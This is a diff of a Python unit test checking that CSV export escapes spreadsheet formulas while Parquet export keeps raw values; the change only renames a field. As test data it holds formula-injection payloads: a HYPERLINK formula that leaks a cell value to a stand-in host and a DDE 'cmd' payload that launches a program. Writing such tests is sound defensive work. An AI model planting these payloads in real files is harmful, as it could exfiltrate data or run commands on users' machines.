@@ -229,18 +229,18 @@ def test_csv_export_escapes_formulas_and_parquet_keeps_the_raw_value(run, cache,
     records = lines(run)
     at = first(records, "measurement")
     formula = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
-    records[at]["benchmark"] = formula
+    records[at]["tool"] = formula
     records[at]["unit"] = "@SUM(1+1)"
     records[at]["client"] = "-2+3+cmd|' /C calc'!A0"
     rewrite(run, records)
     assert main(["export", str(run), "--out", str(tmp_path / "m.csv")]) == 0
     rows = list(csv.DictReader((tmp_path / "m.csv").open(newline="")))
-    assert rows[0]["benchmark"] == "'" + formula
+    assert rows[0]["tool"] == "'" + formula
     assert rows[0]["unit"] == "'@SUM(1+1)" and rows[0]["client"] == "'-2+3+cmd|' /C calc'!A0"
     assert rows[0]["value"] == str(records[at]["value"])  # a number stays a number
     assert main(["export", str(run), "--format", "parquet", "--out", str(tmp_path / "m.parquet")]) == 0
     table = pq.read_table(tmp_path / "m.parquet").to_pylist()
-    assert table[0]["benchmark"] == formula and table[0]["unit"] == "@SUM(1+1)"
+    assert table[0]["tool"] == formula and table[0]["unit"] == "@SUM(1+1)"
 
 
 # -- found by the fuzzer (tests/unit/test_fuzz_rundirs.py) -------------------------------------------------------
